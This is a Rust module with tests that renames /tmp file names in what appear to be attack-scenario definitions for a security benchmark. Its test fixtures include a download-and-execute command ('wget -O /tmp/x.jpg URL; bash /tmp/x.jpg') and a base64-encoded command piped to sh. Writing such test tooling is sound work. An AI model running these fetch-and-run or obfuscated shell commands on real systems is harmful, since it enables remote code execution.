//! Other names for the files below /tmp.

use super::super::file::Scenario;
use super::Random;
use super::text::{is_name, replace, whole};
use std::collections::BTreeSet;

/// Length of a name.
const NAME: usize = 6;

/// Names directly below a /tmp that are spelt out in `text`.
fn names(text: &str) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    for (at, mark) in text.match_indices("/tmp/") {
        let rest = &text[at + mark.len()..];
        let name: String = rest.chars().take_while(|c| is_name(*c)).collect();
        let next = rest.chars().nth(name.len());
        // A variable or a pattern is part of this name: it is not spelt out.
        let open = next.is_some_and(|c| "$*?{}[`\\%+".contains(c));
        let name = name.trim_end_matches('.');
        if !open && !name.is_empty() && !name.starts_with('.') {
            found.insert(name.to_owned());
        }
    }
    found
}

/// Gives every file directly below /tmp another name, where all mentions of it are spelt out. One that is only looked
/// for afterwards keeps its own: what makes it is encoded, or lies in the image.
pub fn change(scenario: &mut Scenario, random: &mut Random) {
    let texts: Vec<String> = scenario.texts_mut().iter().map(|text| (*text).clone()).collect();
    let all: BTreeSet<String> = texts.iter().flat_map(|text| names(text)).collect();
    for name in all {
        let literal = texts.iter().all(|text| whole(text, &name).all(|at| text[..at].ends_with("/tmp/")));
        let is_made = texts.iter().any(|text| *text != scenario.effect && whole(text, &name).next().is_some());
        if !literal || !is_made {
            continue;
        }
        // The ending may matter (.jpg, .so); the rest may not.
        let ending = name.rfind('.').map_or("", |dot| &name[dot..]);
        let other = format!("{}{ending}", random.word(NAME));
        for text in scenario.texts_mut() {
            replace(text, &name, &other);
        }
    }
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests")]
    use super::super::super::file::parse;
    use super::*;

    fn scenario(run: &str, effect: &str) -> Scenario {
        let text = format!("[[scenario]]\nid='a'\nimage='x'\nrun='''{run}'''\neffect='{effect}'\n");
        parse(&text).unwrap().remove(0)
    }

    #[test]
    fn literal_names_change_together() {
        let mut one = scenario("wget -O /tmp/x.jpg URL; bash /tmp/x.jpg; cat /tmp/x; touch /tmp/pwned", "/tmp/pwned");
        change(&mut one, &mut Random::new(7));
        assert!(!one.run.contains("x.jpg"));
        let name: String = one.run["wget -O /tmp/".len()..].chars().take_while(|c| is_name(*c)).collect();
        assert!(name.len() == 10 && name.ends_with(".jpg"));
        assert_eq!(one.run.matches(&name).count(), 2);
        assert!(!one.effect.ends_with("pwned") && one.run.ends_with(&one.effect));
    }

    #[test]
    fn an_effect_that_is_made_by_encoded_text_keeps_its_name() {
        let mut one = scenario("echo dG91Y2ggL3RtcC9wd25lZAo= | base64 -d | sh; cat /tmp/x", "/tmp/pwned");
        change(&mut one, &mut Random::new(7));
        assert_eq!(one.effect, "/tmp/pwned");
        assert!(!one.run.ends_with("/tmp/x"));
    }

    #[test]
    fn names_that_are_also_used_without_their_folder_stay() {
        let mut one = scenario("cd /tmp; wget -O /tmp/x URL; ./x; cat /tmp/y$N /tmp/z*", "/tmp/pwned");
        let before = one.run.clone();
        change(&mut one, &mut Random::new(7));
        assert_eq!(one.run, before);
    }
}
